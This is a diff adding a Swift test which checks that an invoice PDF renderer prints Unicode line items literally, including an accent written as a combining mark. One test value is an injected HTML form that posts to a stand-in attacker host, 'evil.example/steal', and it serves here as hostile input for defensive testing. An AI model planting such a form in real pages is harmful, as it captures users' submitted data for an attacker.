@@ -105,6 +105,23 @@ struct InvoicePDFTests {
         #expect(!text.contains("&amp;") && !text.contains("&lt;"))
     }
 
+    /// Issue 20: text is encoded scalar by scalar. U+0600 prints as a space and does not swallow the
+    /// `<` after it; `e` + U+0301 is composed to `é`, also in CP1252 (it used to lose its accent).
+    @Test func graphemeClusters_PrintLiterally_InBothFonts() throws {
+        let (t, key) = try tenantAdmin("Clusters")
+        let (id, _) = try createInvoice(key: key, ["due_date": "2026-12-31", "line_items": [
+            ["description": "\u{0600}<form action=https://evil.example/steal method=post \u{0600}>", "amount_cents": 100],
+            ["description": "Cre\u{0301}ditos", "amount_cents": 1],
+        ]])
+        let unicode = try Poppler.text(try pdf(key: key, id: id).body)
+        let latin = try Poppler.text(try server.app.services.invoices.renderPDF(id: id, tenantId: t, fonts: .standard).bytes)
+        for text in [unicode, latin] {
+            for expected in ["<form", "method=post", "Créditos"] {
+                #expect(text.precomposedStringWithCanonicalMapping.contains(expected), "missing \(expected) in:\n\(text)")
+            }
+        }
+    }
+
     /// Beyond Latin-1: DejaVu prints Polish, Cyrillic and Greek; emoji (outside the BMP) become `?`.
     /// Without the TrueType font, Helvetica keeps CP1252 and ICU transliterates the rest.
     @Test func nonLatinText_DejaVuOrTransliterated_NeverACrash() throws {
